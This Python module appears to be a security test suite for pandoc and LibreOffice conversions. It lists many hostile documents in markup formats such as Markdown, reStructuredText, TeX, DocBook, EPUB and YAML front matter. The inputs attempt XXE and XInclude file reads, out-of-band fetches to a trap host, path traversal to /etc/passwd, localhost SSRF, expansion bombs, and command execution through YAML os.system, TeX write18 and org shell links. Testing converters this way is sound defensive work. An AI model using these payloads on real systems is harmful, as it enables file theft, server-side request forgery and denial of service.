"""Marked-up text that includes files and fetches addresses (pandoc, then LibreOffice)."""

from __future__ import annotations

import itertools
from pathlib import Path

from hostile.attack import OK, REFUSED, Make, fill, package, row
from hostile.traps import Traps

_BOOK = '<book xmlns="http://docbook.org/ns/docbook" xmlns:xi="http://www.w3.org/2001/XInclude">'
_XXE = '<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY leak SYSTEM "{uri}">]>'
_PARAMETER = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % outer SYSTEM "{http}"> %outer; '
    '<!ENTITY % file SYSTEM "{uri}">]>'
)


def epub(page: str, *, manifest: str = "", package_path: str = "package.opf") -> Make:
    """A book of one page; `manifest`: further items."""

    def make(path: Path, traps: Traps) -> None:
        opf = (
            '<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" '
            'unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">'
            '<dc:identifier id="id">x</dc:identifier><dc:title>x</dc:title><dc:language>en'
            '</dc:language></metadata><manifest><item id="one" href="one.xhtml" '
            f'media-type="application/xhtml+xml"/>{fill(manifest, traps, path.stem)}</manifest>'
            '<spine><itemref idref="one"/><itemref idref="two"/></spine></package>'
        )
        package(
            path,
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": '<?xml version="1.0"?><container version="1.0" xmlns='
                '"urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
                f'full-path="{package_path}" media-type="application/oebps-package+xml"/>'
                "</rootfiles></container>",
                "package.opf": opf,
                "one.xhtml": '<?xml version="1.0"?>' + fill(page, traps, path.stem),
            },
        )

    return make


def _page(body: str) -> str:
    return f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'


_ALIASES = "a0: &a0 ha\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
)

ATTACKS = (
    row(
        "html-img-file",
        "html > docx epub pdf odt",
        '<!DOCTYPE html><p>Hello <img src="{file.png}"><img src="{uri.png}"></p>',
    ),
    row(
        "html-img-http",
        "html > docx epub pdf",
        '<!DOCTYPE html><p>Hello <img src="{http}.png"></p>',
    ),
    row(
        "md-everything-http",
        "md > html docx epub",
        '# Hello\n\n<link rel="stylesheet" href="{http}.css"><script src="{http}.js"></script>'
        '<style>@import url("{http}2.css"); p {background: url({http}.gif)}</style><p>Hello</p>'
        '<iframe src="{http}"></iframe><object data="{http}"></object><video src="{http}.mp4">',
    ),
    row(
        "md-everything-file",
        "md > html docx epub",
        '# Hello\n\n<link rel="stylesheet" href="{file.css}"><script src="{file}"></script>'
        '<style>@import url("{uri.css}");</style><iframe src="{file.html}"></iframe><p>Hello</p>'
        '<object data="{file}"></object><audio src="{file}"></audio><base href="file:///">',
    ),
    row(
        "html-svg-file",
        "html > docx pdf epub",
        '<!DOCTYPE html><p>Hello</p><svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{uri.png}" width="99" '
        'height="99"/></svg><img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/'
        "svg%22 xmlns:xlink=%22http://www.w3.org/1999/xlink%22%3E%3Cimage xlink:href=%22{uri.png}"
        '%22/%3E%3C/svg%3E">',
    ),
    row("md-img-file", "md > docx html epub pdf", "# Hello\n\n![x]({file.png}) ![y]({uri.png})\n"),
    row("md-img-http", "md > docx html epub", "# Hello\n\n![x]({http}.png)\n"),
    row(
        "md-metadata",
        "md > html epub docx tex",
        "---\ntitle: x\ncss: {file.css}\nbibliography: {file.bib}\ncsl: {http}\n"
        "cover-image: {file.png}\nepub-cover-image: {file.png}\ninclude-before: '`{file}`{=html}'\n"
        "header-includes: '\\input{{file}}'\ntemplate: {file}\n---\n\nHello @leak\n",
    ),
    row(
        "md-raw-tex",
        "md > pdf html tex",
        "\\input{{file.tex}}\n\n```{=latex}\n\\input{{file}}\n```\n",
    ),
    row(
        "rst-include",
        "rst > html docx txt",
        "Hello\n=====\n\n.. include:: {file}\n\n.. include:: {file}\n   :literal:\n",
    ),
    row(
        "rst-tables",
        "rst > html docx",
        "Hello\n\n.. csv-table:: x\n   :file: {file.csv}\n\n.. csv-table:: x\n   :url: {http}\n\n"
        ".. raw:: html\n   :file: {file}\n\n.. image:: {file.png}\n\n.. literalinclude:: {file}\n",
    ),
    row(
        "tex-input",
        "tex > html md docx txt",
        "\\documentclass{article}\\usepackage{{folder}/secret}\\begin{document}Hello "
        "\\input{{file.tex}} \\include{{folder}/secret} \\leak \\end{document}\n",
    ),
    row(
        "tex-listings",
        "tex > html md",
        "\\documentclass{article}\\begin{document}Hello \\lstinputlisting{{file}} "
        "\\verbatiminput{{file}} \\includegraphics{{file.png}} \\bibliography{{file.bib}} "
        "\\cite{leak} \\openin0={file} \\read0 to\\x \\x \\immediate\\write18{cat {file}}"
        "\\end{document}\n",
    ),
    row(
        "org-include",
        "org > html docx txt",
        '#+SETUPFILE: {file}\n#+INCLUDE: "{file}"\n#+INCLUDE: "{file.md}" src\n* Hello\n'
        "[[{file.png}]] [[{uri.png}]]\n#+BEGIN_SRC sh :results output\ncat {file}\n#+END_SRC\n",
    ),
    row(
        "adoc-include",
        "adoc > html docx",
        "= Hello\n\ninclude::{file}[]\n\ninclude::{http}[]\n\nimage::{file.png}[]\n",
    ),
    row(
        "typst-read",
        "typst > html docx",
        '= Hello\n#include "{file}"\n#read("{file}")\n#image("{file.png}")\n#csv("{file.csv}")\n',
    ),
    row("textile-img", "textile > docx html", "h1. Hello\n\n!{file.png}! !{http}.png!\n"),
    row(
        "mediawiki-file",
        "mediawiki > docx html",
        "== Hello ==\n[[File:{file.png}]] {{{{:{file}}}}} [[Image:{uri.png}]]\n",
    ),
    row(
        "ipynb-img",
        "ipynb > html docx",
        '{"cells": [{"cell_type": "markdown", "metadata": {}, "source": ["# Hello\\n", '
        '"![x]({file.png}) ![y]({http}.png) ![z](attachment:../../{file.png})"]}], '
        '"metadata": {}, "nbformat": 4, "nbformat_minor": 4}',
    ),
    row(
        "docbook-xinclude",
        "docbook > html docx",
        f'<?xml version="1.0"?>{_BOOK}<title>Hello</title><chapter><title>x</title><para>'
        '<xi:include href="{uri}" parse="text"/><xi:include href="{http}" parse="text"/></para>'
        '<mediaobject><imageobject><imagedata fileref="{file.png}"/></imageobject></mediaobject>'
        "</chapter></book>",
    ),
    row(
        "docbook-xxe",
        "docbook > html",
        _XXE.replace("{root}", "book") + f"{_BOOK}<chapter><para>&leak;</para></chapter></book>",
    ),
    row("docbook-xxe-parameter", "docbook > html", f"{_PARAMETER}{_BOOK}<para/></book>"),
    row(
        "opml-xxe",
        "opml > md html",
        _XXE.replace("{root}", "opml")
        + '<opml version="2.0"><head><title>x</title></head><body><outline text="&leak;"/>'
        "</body></opml>",
    ),
    row(
        "fb2-xxe",
        "fb2 > html epub",
        _XXE.replace("{root}", "FictionBook")
        + '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section>'
        "<p>Hello &leak;</p></section></body></FictionBook>",
    ),
    row(
        "jats-xxe",
        "jats > html",
        _XXE.replace("{root}", "article")
        + "<article><front/><body><p>Hello &leak;</p></body></article>",
    ),
    row(
        "epub-img-outside",
        "epub > html docx txt pdf",
        epub(_page('<p>Hello</p><img src="../../../../../..{file.png}"/><img src="{uri.png}"/>')),
    ),
    row(
        "epub-remote",
        "epub > html docx",
        epub(
            _page('<p>Hello</p><img src="{http}.png"/>'),
            manifest='<item id="two" href="{http}" media-type="application/xhtml+xml"/>',
        ),
    ),
    row(
        "epub-item-outside",
        "epub > html md",
        epub(
            _page("<p>Hello</p>"),
            manifest='<item id="two" href="../../../../..{file.html}" '
            'media-type="application/xhtml+xml"/>',
        ),
    ),
    row(
        "epub-package-outside",
        "epub > html",
        epub(_page("<p>x</p>"), package_path="../../../../../../etc/passwd"),
        *REFUSED,
    ),
    row(
        "epub-xxe",
        "epub > html",
        epub('<!DOCTYPE html [<!ENTITY leak SYSTEM "{uri}">]>' + _page("<p>Hello &leak;</p>")),
    ),
    row("md-yaml-laughs", "md > html docx", f"---\n{_ALIASES}title: *a9\n---\n\nHello\n", *REFUSED),
    row(
        "md-yaml-types",
        "md > html",
        "---\n? !!binary x\n: !include {file}\n<<: !!python/object/"
        "apply:os.system ['cat {file}']\ntitle: !!js/function '{http}'\n---\n\nHello\n",
    ),
    row("md-yaml-deep", "md > html", f"---\ntitle: {'[' * 20_000}\n---\n\nHello\n", *REFUSED),
    row(
        "opml-yaml-laughs",
        "opml > html",
        '<opml version="2.0"><head><title>x</title></head><body><outline text="Hello" _note="'
        + f"---\n{_ALIASES}title: *a9\n---\n".replace("&", "&amp;").replace("\n", "&#10;")
        + '"/></body></opml>',
        OK,
    ),
    row(
        "md-data-sheet",
        "md > html epub",
        '# Hello\n\n<link rel="stylesheet" href="data:text/css,@import url(\'{uri.css}\');'
        'p{background:url({file.png})}"><img src="data:text/html,<img src=\'{uri.png}\'>">'
        "<script src=\"data:text/javascript,import('{http}')\"></script>",
    ),
    row(
        "md-parents",
        "md > html docx epub",
        "# Hello\n\n![x](../../secret.png) ![y](..\\..\\secret.png) ![z](/proc/self/cwd/../../"
        "secret.png) ![v](file://localhost{file.png}) ![w](file:{file.png})\n",
    ),
    row(
        "md-everywhere",
        "md > html docx",
        "# Hello\n\n![a](//127.0.0.1:{port}/x.png) ![b](ftp://127.0.0.1:{port}/x.png) "
        "![c](gopher://127.0.0.1:{port}/x) ![d](http://[::ffff:127.0.0.1]:{port}/x.png) "
        "![e](HTTP://2130706433:{port}/x.png) ![f](http://localhost:{port}/x.png)\n",
    ),
    row(
        "html-refresh",
        "html > docx epub md",
        '<!DOCTYPE html><base href="{uri}"><meta http-equiv="refresh" content="0; url={http}">'
        '<p>Hello <img src="secret.png" srcset="{http}.png 2x"><video poster="{uri.png}"></video>'
        '<embed src="{uri}"><math href="{uri}"/><input type="image" src="{http}"></p>',
    ),
    row(
        "rst-substitutions",
        "rst > html docx",
        "Hello\n\n.. |a| include:: {file}\n.. |b| image:: {file.png}\n.. |c| raw:: html\n   :file: "
        "{file}\n.. |d| replace:: |d| |d|\n\n|a| |b| |c| |d|\n\n.. figure:: {uri.png}\n\n"
        ".. code::\n"
        "   :include: {file}\n\n.. math::\n   :file: {file}\n\n.. stylesheet: {file.css}\n",
    ),
    row(
        "rst-substitution-laughs",
        "rst > html",
        "".join(f".. |a{n}| replace:: {f'|a{n - 1}| ' * 10}\n" for n in range(1, 10))
        + ".. |a0| replace:: ha\n\n|a9|\n",
    ),
    row(
        "tex-bibliography",
        "tex > html docx",
        "\\documentclass{article}\\usepackage[backend=biber]{biblatex}"
        "\\addbibresource{{file.bib}}\\begin{document}Hello \\cite{leak} \\printbibliography "
        "\\subfile{{file}} \\import{{folder}/}{secret} \\InputIfFileExists{{file.tex}}{}{} "
        "\\pdffiledump{{file}} \\directlua{io.open('{file}')} \\href{run:{file}}{x}"
        "\\end{document}\n",
    ),
    row(
        "tex-environment-laughs",
        "tex > html",
        "".join(
            rf"\newenvironment{{{one}}}{{"
            + (rf"\begin{{{two}}}" * 8 + "}{" + rf"\end{{{two}}}" * 8 + "}\n")
            for one, two in itertools.pairwise("abcdefghij")
        )
        + "\\begin{document}\\begin{a}x\\end{a}\\end{document}",
    ),
    row(
        "org-citations",
        "org > html docx",
        "#+bibliography: {file.bib}\n#+cite_export: csl {file}\n#+INCLUDE: {uri} export html\n"
        '#+HTML_HEAD: <link rel="stylesheet" href="{uri.css}"/>\n'
        "* Hello [cite:@leak] [[attachment:../../secret.png]] [[shell:cat {file}]]\n"
        "#+print_bibliography:\n#+TRANSCLUDE: [[{uri}]]\n",
    ),
    row("org-macro-circle", "org > html", "#+MACRO: a {{{a}}}{{{a}}}\n* Hello {{{a}}}\n"),
    row(
        "adoc-attributes",
        "adoc > html docx",
        "= Hello\n:includedir: {folder}\n:docinfo: shared\n:docinfodir: {folder}\n"
        ":data-uri:\n:stylesheet: {file.css}\n:linkcss!:\n\nimage:{file.png}[]\n\n"
        "include::{includedir}/secret.txt[]\n\n[source]\n----\ninclude::{file}[]\n----\n\n"
        "audio::{http}[]\n\n,===\ninclude::{file.csv}[]\n,===\n",
    ),
    row(
        "typst-packages",
        "typst > html docx",
        '#import "@preview/cetz:0.1.0": *\n#import "{file}": leak\n#bibliography("{file.bib}")\n'
        '#let f = plugin("{file}")\n#raw(read("{file}"))\n#json("{file}") #yaml("{file}") '
        '#xml("{file.xml}")\n= Hello @leak\n',
    ),
    row("typst-loop", "typst > html", "#let f(x) = f(f(x))\n#f(1)\n#while true [x]\n"),
    row("adoc-attribute-circle", "adoc > html", "= Hello\n:a: {b}{b}\n:b: {a}{a}\n\n{a}\n"),
    row(
        "mediawiki-templates",
        "mediawiki > html docx",
        '{{{{:{file}}}}} {{#include:{http}}} <include src="{uri}"/> [[Media:{file}]] '
        + "{{a|" * 2_000
        + "x"
        + "}}" * 2_000,
    ),
    row(
        "ipynb-outputs",
        "ipynb > html docx md",
        '{"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["open('
        '\'{file}\').read()"], "outputs": [{"output_type": "display_data", "metadata": {}, '
        '"data": {"image/png": "{file.png}", "text/html": ["<img src=\'{uri.png}\'>"], '
        '"image/svg+xml": ["<svg><image href=\'{uri.png}\'/></svg>"]}}]}], "metadata": {}, '
        '"nbformat": 4, "nbformat_minor": 4}',
    ),
    row(
        "opml-include",
        "opml > md html",
        '<opml version="2.0"><head><title>x</title></head><body><outline type="include" '
        'text="Hello" url="{uri}"/><outline type="rss" text="x" xmlUrl="{http}" '
        '_note="![x]({file.png})"/></body></opml>',
    ),
    row(
        "jats-graphic",
        "jats > html docx",
        '<article xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/'
        'XInclude"><front/><body><p>Hello <inline-graphic xlink:href="{uri.png}"/><graphic '
        'xlink:href="{http}.png"/><xi:include href="{uri}" parse="text"/></p></body></article>',
    ),
    row(
        "fb2-image",
        "fb2 > html epub docx",
        '<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0" xmlns:l="http://www.w3.'
        'org/1999/xlink"><stylesheet type="text/css">@import url({uri.css});</stylesheet><body>'
        "<section>"
        '<p>Hello <image l:href="{uri.png}"/><image l:href="{http}.png"/></p></section></body>'
        '<binary id="x" content-type="image/png">{file.png}</binary></FictionBook>',
    ),
    row(
        "csv-pandoc",
        "csv > md html rst",
        "a,b\n![x]({file.png}),<img src={uri.png}>\n{{{file}}},.. include:: {file}\n",
    ),
)
